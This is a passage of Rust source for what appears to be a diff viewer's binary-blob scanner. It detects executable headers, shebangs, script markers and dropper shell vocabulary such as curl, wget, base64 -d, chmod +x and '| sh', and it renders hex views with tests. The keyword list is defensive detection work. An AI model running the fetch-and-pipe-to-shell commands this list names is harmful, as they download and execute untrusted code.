    b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-' | b'+')
}

fn is_blank_or_end(b: u8) -> bool {
    matches!(b, b' ' | b'\t') || is_line_end(b)
}

/// `#!/path` or `#! /path`: an interpreter path of at least two more path
/// characters after the `/`, then a blank or the line's end (random bytes
/// hold `#!/` every 16 MiB; they rarely hold a path after it).
fn shebang_at(window: &[u8], at: usize) -> Option<Raw> {
    let path = if bytes_at(window, at, b"#!/") {
        at + 2
    } else if bytes_at(window, at, b"#! /") {
        at + 3
    } else {
        return None;
    };
    let rest = window.get(path + 1..)?;
    let len = rest.iter().take(128).take_while(|&&b| is_path_byte(b)).count();
    if len < 2 || !rest.get(len).is_none_or(|&b| is_blank_or_end(b)) {
        return None;
    }
    let end = line_end(window, at, EXCERPT_MAX);
    let mut detail = escape_bytes(window.get(at..end).unwrap_or_default());
    if window.get(end).is_some_and(|&b| !is_line_end(b)) {
        detail.push('…');
    }
    Some(Raw::new(at, end, FindingKind::Shebang, detail))
}

/// `####Word####`: a run of at least four `#`, a word of 1 to 64 letters,
/// digits or `_`, and at least four `#` again.
fn marker_at(window: &[u8], at: usize) -> Option<Raw> {
    const MIN_HASHES: usize = 4;
    const MAX_WORD: usize = 64;
    if at > 0 && window.get(at - 1) == Some(&b'#') {
        return None; // Not the start of the run.
    }
    let rest = window.get(at..)?;
    let open = rest.iter().take_while(|&&b| b == b'#').count();
    if open < MIN_HASHES {
        return None;
    }
    let word = rest.get(open..)?.iter().take(MAX_WORD + 1).take_while(|&&b| is_word_byte(b)).count();
    if word == 0 || word > MAX_WORD {
        return None;
    }
    let close = rest.get(open + word..)?.iter().take_while(|&&b| b == b'#').count();
    if close < MIN_HASHES {
        return None;
    }
    let end = at + open + word + close;
    let detail = format!("marker {}", escape_bytes(window.get(at..end).unwrap_or_default()));
    Some(Raw::new(at, end, FindingKind::ScriptMarker, detail))
}

/// A dropper's vocabulary. A trailing space also matches a tab; patterns
/// that start with a letter need a word boundary before them, and command
/// names (`boundary_after`) one after them.
struct Keyword {
    text: &'static [u8],
    boundary_after: bool,
}

const KEYWORDS: &[Keyword] = &[
    Keyword { text: b"eval ", boundary_after: false },
    Keyword { text: b"exec ", boundary_after: false },
    Keyword { text: b"/bin/sh", boundary_after: true },
    Keyword { text: b"/bin/bash", boundary_after: true },
    Keyword { text: b"curl ", boundary_after: false },
    Keyword { text: b"wget ", boundary_after: false },
    Keyword { text: b"base64 -d", boundary_after: false },
    Keyword { text: b"base64 --decode", boundary_after: false },
    Keyword { text: b"chmod +x", boundary_after: false },
    Keyword { text: b"export ", boundary_after: false },
    Keyword { text: b"head -c", boundary_after: false },
    Keyword { text: b"tail -c", boundary_after: false },
    Keyword { text: b"tr \"", boundary_after: false },
    Keyword { text: b"tr '", boundary_after: false },
    Keyword { text: b"xz -d", boundary_after: false },
    Keyword { text: b"xz --decompress", boundary_after: false },
    Keyword { text: b"sed ", boundary_after: false },
];

fn boundary_before(window: &[u8], at: usize) -> bool {
    at == 0 || window.get(at - 1).is_none_or(|&b| !is_word_byte(b))
}

fn boundary_after(window: &[u8], end: usize) -> bool {
    window.get(end).is_none_or(|&b| !is_word_byte(b))
}

fn keyword_name(text: &'static [u8]) -> &'static str {
    std::str::from_utf8(text).map_or("?", str::trim_end)
}

fn keywords_at(window: &[u8], at: usize, first: u8, raw: &mut Vec<Raw>) {
    for keyword in KEYWORDS.iter().filter(|k| k.text.first() == Some(&first)) {
        let Some(candidate) = window.get(at..at.saturating_add(keyword.text.len())) else {
            continue;
        };
        let matches = candidate.len() == keyword.text.len()
            && candidate.iter().zip(keyword.text).all(|(&b, &k)| b == k || (k == b' ' && b == b'\t'));
        if !matches {
            continue;
        }
        if first.is_ascii_alphanumeric() && !boundary_before(window, at) {
            continue;
        }
        let end = at + keyword.text.len();
        if (keyword.boundary_after && !boundary_after(window, end)) || !in_text(window, at, end) {
            continue;
        }
        let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
        r.keywords.push(keyword_name(keyword.text));
        raw.push(r);
    }
}

/// `|`, optional blanks, then `sh` or `bash` ending the command (a blank,
/// `;`, `)`, `&`, `|`, a quote or the line's end follows), in text.
fn pipe_at(window: &[u8], at: usize) -> Option<Raw> {
    let rest = window.get(at.checked_add(1)?..)?;
    let blanks = rest.iter().take(8).take_while(|&&b| b == b' ' || b == b'\t').count();
    let word = rest.get(blanks..)?;
    let (name, len) = if word.starts_with(b"sh") {
        ("| sh", 2)
    } else if word.starts_with(b"bash") {
        ("| bash", 4)
    } else {
        return None;
    };
    let end = at + 1 + blanks + len;
    if !window.get(end).is_none_or(|&b| is_blank_or_end(b) || matches!(b, b';' | b')' | b'&' | b'|' | b'"' | b'\''))
        || !in_text(window, at, end)
    {
        return None;
    }
    let mut r = Raw::new(at, end, FindingKind::ShellCommand, String::new());
    r.keywords.push(name);
    Some(r)
}

fn is_text_byte(b: u8) -> bool {
    b.is_ascii_graphic() || matches!(b, b' ' | b'\t')
}

/// Whether a shell keyword at `start..end` sits in text: the byte before
/// it (if any) is text, and at least 3 in 4 of the up to 16 bytes on each
/// side, up to the line's ends, are printable ASCII or blanks. Random
/// bytes hold `|sh` every 16 MiB; they rarely hold it inside text.
fn in_text(window: &[u8], start: usize, end: usize) -> bool {
    const CONTEXT: usize = 16;
    if start > 0 && !window.get(start - 1).is_some_and(|&b| is_text_byte(b) || is_line_end(b)) {
        return false;
    }
    let before = window.get(start.saturating_sub(CONTEXT)..start).unwrap_or_default();
    let before = before.iter().rev().take_while(|&&b| !is_line_end(b));
    let after = window.get(end..end.saturating_add(CONTEXT).min(window.len())).unwrap_or_default();
    let after = after.iter().take_while(|&&b| !is_line_end(b));
    let (mut text, mut all) = (0usize, 0usize);
    for &b in before.chain(after) {
        all += 1;
        text += usize::from(is_text_byte(b));
    }
    text * 4 >= all * 3
}

/// Whether two shell findings sit on one line, close together.
fn same_line(window: &[u8], end: usize, start: usize) -> bool {
    start >= end
        && start - end <= SAME_LINE_GAP
        && window.get(end..start).is_some_and(|gap| !gap.iter().any(|&b| is_line_end(b)))
}

/// Looks for hidden payloads in a window: executable headers (ELF with a
/// valid class, data and version; PE whose `e_lfanew` reaches `PE\0\0`;
/// Mach-O and fat Mach-O with a known CPU), `#!/` shebangs, `####Word####`
/// markers, and shell commands droppers use (`eval `, `exec `, `| sh`,
/// `| bash`, `/bin/sh`, `/bin/bash`, `curl `, `wget `, `base64 -d`,
/// `chmod +x`, `export `, `head -c`, `tail -c`, `tr "`, `xz -d`, `sed `),
/// each at a word boundary (`evaluate` and `exec_prefix` do not count) and
/// surrounded by text rather than random bytes.
///
/// Offsets are absolute (`window_offset` plus the position). Overlapping
/// script findings are merged (a shebang absorbs its `/bin/sh`), and the
/// shell commands of one line become one finding whose detail lists them
/// and shows the line; executable headers are never merged into anything.
/// Sorted by offset. See [`suspicious`] to drop the file's own header.
pub fn scan_payloads(window: &[u8], window_offset: u64) -> Vec<Finding> {
    let mut raw: Vec<Raw> = Vec::new();
    let mut at = 0;
    while let Some(found_at) = next_candidate(window, at) {
        at = found_at;
        let Some(&b) = window.get(at) else { break };
        let found = match b {
            0x7f => elf_at(window, at),
            b'M' => pe_at(window, at),
            0xfe | 0xce | 0xcf | 0xca => macho_at(window, at),
            b'#' => shebang_at(window, at).or_else(|| marker_at(window, at)),
            b'|' => pipe_at(window, at),
            _ => None,
        };
        raw.extend(found);
        if b.is_ascii_lowercase() || b == b'/' {
            keywords_at(window, at, b, &mut raw);
        }
        at += 1;
    }
    raw.sort_by_key(|r| (r.start, std::cmp::Reverse(r.end)));
    merge(raw, window).into_iter().map(|r| finding(r, window, window_offset)).collect()
}

/// The next position from `from` on that may start a finding: most bytes
/// start nothing, and a tight loop of table look-ups passes them by.
#[inline(never)]
fn next_candidate(window: &[u8], from: usize) -> Option<usize> {
    let rest = window.get(from..)?;
    rest.iter().position(|&b| CAN_START[usize::from(b)]).map(|i| from + i)
}

/// The bytes [`scan_payloads`] looks at more closely: the first bytes of
/// headers, `#`, `|`, and the first bytes of [`KEYWORDS`].
static CAN_START: [bool; 256] = can_start();

const fn can_start() -> [bool; 256] {
    let mut table = [false; 256];
    let heads = [0x7f, b'M', 0xfe, 0xce, 0xcf, 0xca, b'#', b'|'];
    let mut i = 0;
    while i < heads.len() {
        table[heads[i] as usize] = true;
        i += 1;
    }
    let mut k = 0;
    while k < KEYWORDS.len() {
        table[KEYWORDS[k].text[0] as usize] = true;
        k += 1;
    }
    table
}

fn merge(raw: Vec<Raw>, window: &[u8]) -> Vec<Raw> {
    let mut out: Vec<Raw> = Vec::with_capacity(raw.len());
    // The last script (non-executable) finding in `out`, which later
    // script findings may merge into.
    let mut open: Option<usize> = None;
    for r in raw {
        if r.kind.is_executable() {
            out.push(r);
            continue;
        }
        if let Some(cur) = open.and_then(|i| out.get_mut(i)) {
            let overlaps = r.start < cur.end;
            let shell_line = cur.kind == FindingKind::ShellCommand
                && r.kind == FindingKind::ShellCommand
                && same_line(window, cur.end, r.start);
            if overlaps || shell_line {
                cur.end = cur.end.max(r.end);
                if r.kind.rank() > cur.kind.rank() {
                    cur.kind = r.kind;
                    cur.detail = r.detail;
                }
                for k in r.keywords {
                    if !cur.keywords.contains(&k) {
                        cur.keywords.push(k);
                    }
                }
                continue;
            }
        }
        open = Some(out.len());
        out.push(r);
    }
    out
}

fn finding(r: Raw, window: &[u8], window_offset: u64) -> Finding {
    let detail = match r.kind {
        FindingKind::ShellCommand => {
            format!("{}: {}", r.keywords.join(", "), line_excerpt(window, r.start, r.end))
        }
        _ => r.detail,
    };
    Finding {
        offset: window_offset.saturating_add(r.start as u64),
        len: r.end.saturating_sub(r.start) as u64,
        kind: r.kind,
        detail,
    }
}

/// The findings worth a reviewer's attention: all of them except the
/// executable header at offset 0 of a file that *is* that executable (an
/// ELF file starts with an ELF header; that is no payload).
pub fn suspicious<'a>(findings: &'a [Finding], own_type: Option<&FileType>) -> Vec<&'a Finding> {
    let own = own_type.map(|t| t.name);
    findings
        .iter()
        .filter(|f| {
            let is_own = f.offset == 0
                && match f.kind {
                    FindingKind::ElfHeader => own == Some(ELF),
                    FindingKind::PeHeader => matches!(own, Some(PE | MZ)),
                    FindingKind::MachOHeader => matches!(own, Some(MACHO | MACHO_FAT)),
                    _ => false,
                };
            !is_own
        })
        .collect()
}

// ---------------------------------------------------------------------------
// One pass over a whole blob

/// How many bytes the payload scan looks at per step of a [`BlobScan`].
const SCAN_STEP: usize = 1 << 20;
/// Bytes a step also sees before and after itself, so a finding near a
/// step's border is seen whole (its line, a PE header's `e_lfanew`, the
/// shell commands merged with it). Each finding is kept by the one step
/// its first byte falls in, so none is lost or doubled.
const SCAN_CONTEXT: usize = 16 << 10;
/// Bytes kept from a blob's start for its type.
const HEAD_BYTES: usize = 4096;

/// What a reader must know about a whole blob: see [`BlobScan`].
#[derive(Debug, Clone, Default)]
pub struct BlobFacts {
    /// The blob's size.
    pub len: u64,
    /// Its first bytes (4 KiB at most), which say its type.
    pub head: Vec<u8>,
    /// Entropy per block, one value per sparkline mark.
    pub entropy: Vec<f32>,
    /// Every payload finding in the blob (see [`scan_payloads`]).
    pub findings: Vec<Finding>,
}

impl BlobFacts {
    /// The blob's type, from its magic number.
    pub fn file_type(&self) -> Option<FileType> {
        file_type(&self.head)
    }
}

/// Type, entropy and payload findings of a blob fed to it in pieces of any
/// size, front to back, holding at most a few MiB whatever the blob's size:
/// a 1 GiB blob is read once and never held whole.
pub struct BlobScan {
    facts: BlobFacts,
    block: u64,
    /// Byte counts of the current entropy block, four interleaved tables
    /// (one counter per table per byte value avoids store stalls).
    counts: Box<[[u32; 256]; 4]>,
    in_block: u64,
    /// Bytes not yet scanned for payloads, from `window_start`.
    window: Vec<u8>,
    window_start: u64,
    /// Findings before this offset are final.
    scanned_to: u64,
}

impl BlobScan {
    /// A scan of a blob of `len` bytes whose entropy fills at most `marks`
    /// sparkline marks: 4 KiB blocks (or larger, to fit), 256-byte blocks
    /// for blobs under 64 KiB.
    pub fn new(len: u64, marks: usize) -> BlobScan {
        let floor = if len < 64 * 1024 { 256 } else { 4096 };
        let block = len.div_ceil(marks.max(1) as u64).max(floor);
        BlobScan {
            facts: BlobFacts { len, ..BlobFacts::default() },
            block,
            counts: Box::new([[0; 256]; 4]),
            in_block: 0,
            window: Vec::with_capacity(SCAN_STEP + 3 * SCAN_CONTEXT),
            window_start: 0,
            scanned_to: 0,
        }
    }

    /// The next bytes of the blob.
    pub fn feed(&mut self, mut bytes: &[u8]) {
        let head_room = HEAD_BYTES.saturating_sub(self.facts.head.len());
        self.facts.head.extend_from_slice(bytes.get(..head_room.min(bytes.len())).unwrap_or_default());
        self.count(bytes);
        // Scan step by step, so the window stays small however much is fed.
        while !bytes.is_empty() {
            let room = (SCAN_STEP + 2 * SCAN_CONTEXT).saturating_sub(self.window.len()).max(1);
            let (now, rest) = bytes.split_at(room.min(bytes.len()));
            self.window.extend_from_slice(now);
            bytes = rest;
            self.scan(false);
        }
    }

    /// The facts, once every byte was fed.
    pub fn finish(mut self) -> BlobFacts {
        self.scan(true);
        if self.in_block > 0 {
            self.close_block();
        }
        self.facts
    }

    fn count(&mut self, mut bytes: &[u8]) {
        while !bytes.is_empty() {
            let room = usize::try_from(self.block - self.in_block).unwrap_or(usize::MAX);
            let (now, rest) = bytes.split_at(room.min(bytes.len()));
            let [a, b, c, d] = &mut *self.counts;
            let mut quads = now.chunks_exact(4);
            for q in &mut quads {
                if let [w, x, y, z] = *q {
                    a[usize::from(w)] += 1;
                    b[usize::from(x)] += 1;
                    c[usize::from(y)] += 1;
                    d[usize::from(z)] += 1;
                }
            }
            for &w in quads.remainder() {
                a[usize::from(w)] += 1;
            }
            self.in_block += now.len() as u64;
            bytes = rest;
            if self.in_block == self.block {
                self.close_block();
            }
        }
    }

    fn close_block(&mut self) {
        let n = self.in_block as f64;
        let mut h = 0.0f64;
        for value in 0..256 {
            let c: u64 = self.counts.iter().map(|t| u64::from(t[value])).sum();
            if c > 0 {
                let p = c as f64 / n;
                h -= p * p.log2();
            }
        }
        self.facts.entropy.push(h.clamp(0.0, 8.0) as f32);
        *self.counts = [[0; 256]; 4];
        self.in_block = 0;
    }

    /// Scans the window if it holds a whole step and its context after
    /// (or, at the end, whatever is left), keeping the findings that start
    /// in the step; then drops what the next step does not need.
    fn scan(&mut self, last: bool) {
        let window_end = self.window_start + self.window.len() as u64;
        let step_end = if last {
            window_end
        } else if window_end >= self.scanned_to + (SCAN_STEP + SCAN_CONTEXT) as u64 {
            self.scanned_to + SCAN_STEP as u64
        } else {
            return;
        };
        let from = self.scanned_to;
        self.facts.findings.extend(
            scan_payloads(&self.window, self.window_start).into_iter().filter(|f| (from..step_end).contains(&f.offset)),
        );
        self.scanned_to = step_end;
        let keep_from = step_end.saturating_sub(SCAN_CONTEXT as u64).max(self.window_start);
        let cut = usize::try_from(keep_from - self.window_start).unwrap_or(usize::MAX).min(self.window.len());
        self.window.drain(..cut);
        self.window_start += cut as u64;
    }
}

// ---------------------------------------------------------------------------
// Summary

fn human_size(bytes: u64) -> String {
    const UNITS: [&str; 5] = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if bytes < 1024 {
        return format!("{bytes} bytes");
    }
    let mut value = bytes as f64 / 1024.0;
    let mut unit = 0;
    while value >= 1024.0 && unit + 1 < UNITS.len() {
        value /= 1024.0;
        unit += 1;
    }
    format!("{value:.1} {} ({bytes} bytes)", UNITS.get(unit).copied().unwrap_or("?"))
}

/// Most findings the summary lists one by one.
const SUMMARY_FINDINGS: usize = 20;

/// A few header lines for a blob's hex view: its type and size, the
/// entropy profile of `head` (the first bytes, as many as were read), and
/// the [`suspicious`] findings, at most 20 listed.
pub fn summary(blob_len: u64, head: &[u8], findings: &[Finding]) -> Vec<StyledLine> {
    summary_in(&Palette::default(), blob_len, head, findings)
}

/// [`summary`] in a theme's palette.
pub fn summary_in(palette: &Palette, blob_len: u64, head: &[u8], findings: &[Finding]) -> Vec<StyledLine> {
    let bold = Style { bold: true, ..Style::default() };
    let own = file_type(head);
    let mut lines = Vec::new();

    let mut first = Line::default();
    match own {
        Some(t) => {
            first.push(t.name, bold);
            first.push(&format!(" — {}", t.description), Style::default());
        }
        None => first.push("data (no known magic number)", Style::default()),
    }
    first.push(&format!(" · {}", human_size(blob_len)), dim());
    lines.push(first.spans);

    if !head.is_empty() {
        let block = (head.len() / 48).max(256);
        let blocks = entropy_blocks(head, block);
        let mut line = Line::default();
        line.push(
            &format!("entropy {:.2} bits/byte over the first {} ", entropy(head), human_size(head.len() as u64)),
            Style::default(),
        );
        line.push(&sparkline(&blocks), palette.printable);
        lines.push(line.spans);
    }

    let shown = suspicious(findings, own.as_ref());
    let mut heading = Line::default();
    if shown.is_empty() {
        heading.push("no payload findings", dim());
    } else {
        let plural = if shown.len() == 1 { "" } else { "s" };
        heading.push(&format!("{} payload finding{plural}", shown.len()), Style { bold: true, ..palette.finding });
    }
    lines.push(heading.spans);
    for f in shown.iter().take(SUMMARY_FINDINGS) {
        let mut line = Line::default();
        line.push("  ", Style::default());
        line.push(&offset_text(f.offset), palette.offset);
        line.push("  ", Style::default());
        line.push(f.kind.label(), bold);
        line.push("  ", Style::default());
        line.push(&sanitize_line(&f.detail), Style::default());
        lines.push(line.spans);
    }
    if shown.len() > SUMMARY_FINDINGS {
        let mut line = Line::default();
        line.push(&format!("  … and {} more", shown.len() - SUMMARY_FINDINGS), dim());
        lines.push(line.spans);
    }
    lines
}

// ---------------------------------------------------------------------------
// A binary file in a diff

/// One side of a binary file: its bytes and their facts.
pub struct BinarySide<'a> {
    pub label: &'static str,
    pub bytes: &'a [u8],
    pub facts: BlobFacts,
}

impl<'a> BinarySide<'a> {
    /// A side held in memory, scanned whole (entropy in 48 blocks).
    pub fn scan(label: &'static str, bytes: &'a [u8]) -> BinarySide<'a> {
        let mut scan = BlobScan::new(bytes.len() as u64, 48);
        scan.feed(bytes);
        BinarySide { label, bytes, facts: scan.finish() }
    }
}

/// What a line of [`binary_lines`] shows (the TUI jumps between findings).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinaryLine {
    Summary,
    Finding,
    Row,
    Note,
}

/// How a binary file reads in a diff, in `rearview show` and the TUI's diff
/// alike: each side's type, size and entropy and its [`suspicious`]
/// findings with their offsets; then, when both sides are given, the first
/// `row_count` rows from the first change, old ┃ new, changed bytes
/// marked; otherwise the side's first `row_count` rows, findings marked, and `more`
/// (where to read on) if there are more.
pub fn binary_lines(
    old: Option<&BinarySide>,
    new: Option<&BinarySide>,
    row_count: usize,
    palette: &Palette,
    warn: Style,
    more: &str,
) -> Vec<(BinaryLine, StyledLine)> {
    let line = |text: String, style: Style| vec![Span::new(text, style)];
    let mut out = Vec::new();
    let mut marks = Vec::new();
    for side in [old, new].into_iter().flatten() {
        let own = side.facts.file_type();
        let kind = own.as_ref().map_or("data", |t| t.description);
        let text = format!(
            "binary ({}): {kind}, {}; entropy {}",
            side.label,
            human_size(side.facts.len),
            sparkline(&side.facts.entropy)
        );
        out.push((BinaryLine::Summary, line(text, Style::default())));
        let shown = suspicious(&side.facts.findings, own.as_ref());
        for f in shown.iter().take(SUMMARY_FINDINGS) {
            let text = format!("⚠ 0x{:08x}  {}: {}", f.offset, f.kind.label(), sanitize_line(&f.detail));
            out.push((BinaryLine::Finding, line(text, warn)));
        }
        if shown.len() > SUMMARY_FINDINGS {
            out.push((BinaryLine::Note, line(format!("  … and {} more", shown.len() - SUMMARY_FINDINGS), dim())));
        }
        marks = finding_marks(shown, palette);
    }
    let window = row_count.saturating_mul(BYTES_PER_ROW);
    match (old, new) {
        (Some(old), Some(new)) => {
            let changed = changed_ranges(old.bytes, new.bytes);
            let Some(first) = changed.first() else { return out };
            let start = first.start / BYTES_PER_ROW as u64 * BYTES_PER_ROW as u64;
            let text = format!("changed bytes, old ┃ new (first change at 0x{:x}):", first.start);
            out.push((BinaryLine::Note, line(text, Style::default())));
            let rows_of = |bytes: &[u8]| {
                let from = usize::try_from(start).unwrap_or(usize::MAX).min(bytes.len());
                rows(bytes.get(from..from.saturating_add(window).min(bytes.len())).unwrap_or_default(), start, false)
            };
            let (old_rows, new_rows) = (rows_of(old.bytes), rows_of(new.bytes));
            for i in 0..old_rows.len().max(new_rows.len()) {
                let row = render_side_by_side(old_rows.get(i), new_rows.get(i), palette, &changed);
                out.push((BinaryLine::Row, row));
            }
        }
        (Some(side), None) | (None, Some(side)) => {
            let head = side.bytes.get(..window.min(side.bytes.len())).unwrap_or_default();
            for row in rows(head, 0, true) {
                out.push((BinaryLine::Row, render_row(&row, palette, &marks)));
            }
            if side.bytes.len() > window {
                let left = (side.bytes.len() - window).div_ceil(BYTES_PER_ROW);
                out.push((BinaryLine::Note, line(format!("… {left} more rows: {more}"), dim())));
            }
        }
        (None, None) => {}
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(line: &StyledLine) -> String {
        line.iter().map(|s| s.text.as_str()).collect()
    }

    #[test]
    fn classes_and_glyphs() {
        assert_eq!(classify(0), ByteClass::Null);
        assert_eq!(classify(b'A'), ByteClass::AsciiPrintable);
        assert_eq!(classify(b'~'), ByteClass::AsciiPrintable);
        assert_eq!(classify(b' '), ByteClass::AsciiWhitespace);
        assert_eq!(classify(b'\t'), ByteClass::AsciiWhitespace);
        assert_eq!(classify(b'\n'), ByteClass::AsciiWhitespace);
        assert_eq!(classify(b'\r'), ByteClass::AsciiWhitespace);
        assert_eq!(classify(0x0c), ByteClass::AsciiWhitespace);
        assert_eq!(classify(0x0b), ByteClass::AsciiOther);
        assert_eq!(classify(0x1b), ByteClass::AsciiOther);
        assert_eq!(classify(0x7f), ByteClass::AsciiOther);
        assert_eq!(classify(0x80), ByteClass::NonAscii);
        assert_eq!(classify(0xff), ByteClass::NonAscii);
        let glyphs: String = [0u8, b'a', b' ', b'\n', 0x1b, 0xe9].iter().map(|&b| glyph(b)).collect();
        assert_eq!(glyphs, "⋄a _•×");
        for b in 0..=255u8 {
            assert!(!glyph(b).is_control(), "{b:#x}");
        }
    }

    #[test]
    fn a_known_row_renders_exactly() {
        let row = Row::Bytes { offset: 0x10, bytes: b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec() };
        let line = render_row(&row, &Palette::default(), &[]);
        assert_eq!(text(&line), "00000010  7f 45 4c 46 02 01 01 00  00 00 00 00 00 00 00 00  │•ELF•••⋄│⋄⋄⋄⋄⋄⋄⋄⋄│");
        let palette = Palette::default();
        assert_eq!(line.first().map(|s| s.style), Some(palette.offset));
        let elf = line.iter().find(|s| s.text == "45 4c 46").map(|s| s.style);
        assert_eq!(elf, Some(palette.printable));
    }

    #[test]
    fn a_short_row_keeps_the_columns() {
        let row = Row::Bytes { offset: 0x20, bytes: b"hi there\n".to_vec() };
        let line = text(&render_row(&row, &Palette::default(), &[]));
        assert_eq!(line, "00000020  68 69 20 74 68 65 72 65  0a                       │hi there│_       │");
        let full = text(&render_row(&Row::Bytes { offset: 0, bytes: vec![0; 16] }, &Palette::default(), &[]));
        assert_eq!(line.chars().count(), full.chars().count());
    }

    #[test]
    fn marks_replace_class_colours() {
        let palette = Palette::default();
        let row = Row::Bytes { offset: 0x100, bytes: (0u8..16).collect() };
        let mark = Mark { range: 0x102..0x105, style: palette.finding };
        let line = render_row(&row, &palette, &[mark]);
        let marked: Vec<&str> = line.iter().filter(|s| s.style == palette.finding).map(|s| s.text.as_str()).collect();
        assert_eq!(marked, ["02 03 04", "•••"]);
    }

    #[test]
    fn long_offsets_grow_the_column() {
        let row = Row::Bytes { offset: 0x1_2345_6780, bytes: vec![b'a'] };
        assert!(text(&render_row(&row, &Palette::default(), &[])).starts_with("123456780  61 "));
    }

    #[test]
    fn squeezing() {
        let mut data = vec![0u8; 16 * 5];
        data.extend_from_slice(b"0123456789abcdef");
        data.extend_from_slice(&[0u8; 32]);
        let got = rows(&data, 0x1000, true);
        assert_eq!(
            got,
            vec![
                Row::Bytes { offset: 0x1000, bytes: vec![0; 16] },
                Row::Squeezed { offset: 0x1010, rows: 4 },
                Row::Bytes { offset: 0x1050, bytes: b"0123456789abcdef".to_vec() },
                Row::Bytes { offset: 0x1060, bytes: vec![0; 16] },
                // One repeat alone is not worth a `*`.
                Row::Bytes { offset: 0x1070, bytes: vec![0; 16] },
            ]
        );
        assert_eq!(rows(&data, 0, false).len(), 8);
        // A short final row is never part of a squeeze.
        let mut tail = vec![7u8; 48];
        tail.extend_from_slice(&[7u8; 8]);
        let got = rows(&tail, 0, true);
        assert_eq!(got.len(), 3);
        assert_eq!(got.get(1), Some(&Row::Squeezed { offset: 16, rows: 2 }));
        assert_eq!(got.get(2), Some(&Row::Bytes { offset: 48, bytes: vec![7; 8] }));
        let star = text(&render_row(&Row::Squeezed { offset: 16, rows: 2 }, &Palette::default(), &[]));
        assert_eq!(star, "*         2 identical rows (32 bytes)");
        assert!(rows(&[], 5, true).is_empty());
    }

    #[test]
    fn changed_ranges_and_side_by_side() {
        let old = b"hello world, this is old data!!".to_vec();
        let mut new = old.clone();
        new[1] = b'a';
        new[2] = b'x';
        new.extend_from_slice(b"++tail");
        assert_eq!(changed_ranges(&old, &new), vec![1..3, 31..37]);
        assert_eq!(changed_ranges(&old, &old), Vec::<Range<u64>>::new());
        assert_eq!(changed_ranges_at(&old, &new, 1000), vec![1001..1003, 1031..1037]);
        assert_eq!(changed_ranges(b"", b"ab"), vec![0..2]);
        assert_eq!(changed_ranges(b"abc", b"abd"), vec![2..3]);
        // Chunk boundaries do not split a run.
        let a = vec![0u8; 200];
        let mut b = a.clone();
        b[60..70].fill(1);
        assert_eq!(changed_ranges(&a, &b), vec![60..70]);

        let palette = Palette::default();
        let changed = changed_ranges(&old, &new);
        let pairs = paired_rows(&old, &new, 0);
        assert_eq!(pairs.len(), 3);
        let (o, n) = &pairs[0];
        let line = render_side_by_side(o.as_ref(), n.as_ref(), &palette, &changed);
        assert_eq!(
            text(&line),
            "00000000  68 65 6c 6c 6f 20 77 6f  72 6c 64 2c 20 74 68 69  │hello wo│rld, thi│  ┃  \
             68 61 78 6c 6f 20 77 6f  72 6c 64 2c 20 74 68 69  │haxlo wo│rld, thi│"
        );
        let marked: Vec<&str> = line.iter().filter(|s| s.style == palette.changed).map(|s| s.text.as_str()).collect();
        assert_eq!(marked, ["65 6c", "el", "61 78", "ax"]);
        // Past the old blob's end the left side is blank.
        let (o, n) = &pairs[2];
        assert!(o.is_none());
        let line = text(&render_side_by_side(o.as_ref(), n.as_ref(), &palette, &changed));
        assert!(line.starts_with("00000020  "), "{line}");
        assert!(line.contains(&format!("{}┃  2b 74 61 69 6c", " ".repeat(SIDE_WIDTH + 2))), "{line}");
    }

    #[test]
    fn every_magic_number() {
        let mut tar = vec![0u8; 512];
        tar[257..263].copy_from_slice(b"ustar\0");
        let mut pe = vec![0u8; 256];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c] = 0x80;
        pe[0x80..0x84].copy_from_slice(b"PE\0\0");
        let mut lzma = b"\x5d\0\0\x80\0".to_vec();
        lzma.extend_from_slice(&[0xff; 8]);
        let cases: Vec<(Vec<u8>, &str)> = vec![
            (b"\xfd7zXZ\0\0\x04".to_vec(), "xz"),
            (lzma, "lzma"),
            (b"\x1f\x8b\x08\0".to_vec(), "gzip"),
            (b"BZh91AY&SY".to_vec(), "bzip2"),
            (b"\x28\xb5\x2f\xfd\x04".to_vec(), "zstd"),
            (b"PK\x03\x04\x14\0".to_vec(), "zip"),
            (b"7z\xbc\xaf\x27\x1c\0\x04".to_vec(), "7z"),
            (tar, "tar"),
            (b"\x7fELF\x02\x01\x01\0".to_vec(), "elf"),
            (pe, "pe"),
            (b"MZ\x90\0".to_vec(), "mz"),
            (b"\xfe\xed\xfa\xce\0\0\0\x12".to_vec(), "macho"),
            (b"\xce\xfa\xed\xfe\x07\0\0\0".to_vec(), "macho"),
            (b"\xfe\xed\xfa\xcf\x01\0\0\x07".to_vec(), "macho"),
            (b"\xcf\xfa\xed\xfe\x0c\0\0\x01".to_vec(), "macho"),
            (b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07".to_vec(), "macho-fat"),
            (b"\xca\xfe\xba\xbe\0\0\0\x34".to_vec(), "java-class"),
            (b"\xca\xfe\xba\xbe\0\x03\0\x2d".to_vec(), "java-class"),
            (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(), "png"),
            (b"\xff\xd8\xff\xe0\0\x10JFIF".to_vec(), "jpeg"),
            (b"GIF89a\x01\0".to_vec(), "gif"),
            (b"GIF87a\x01\0".to_vec(), "gif"),
            (b"%PDF-1.7\n".to_vec(), "pdf"),
            (b"\0asm\x01\0\0\0".to_vec(), "wasm"),
            (b"SQLite format 3\0\x10\0".to_vec(), "sqlite"),
        ];
        for (head, name) in cases {
            assert_eq!(file_type(&head).map(|t| t.name), Some(name), "{head:02x?}");
        }
        for head in [&b""[..], b"hello", b"\xca\xfe\xba\xbe", b"\x5d\0\0", b"\x1f\x8b\x07", b"BZh0"] {
            assert_eq!(file_type(head), None, "{head:02x?}");
        }
    }

    #[test]
    fn entropy_bounds() {
        assert_eq!(entropy(&[]), 0.0);
        assert_eq!(entropy(&[0; 4096]), 0.0);
        let all: Vec<u8> = (0..=255).collect();
        assert!((entropy(&all) - 8.0).abs() < 1e-6);
        assert!((entropy(b"abab") - 1.0).abs() < 1e-6);
        let blocks = entropy_blocks(&[&[0u8; 256][..], &all[..]].concat(), 256);
        assert_eq!(blocks.len(), 2);
        assert_eq!(blocks[0], 0.0);
        assert!((blocks[1] - 8.0).abs() < 1e-6);
        assert_eq!(entropy_blocks(&all, 0).len(), 256);
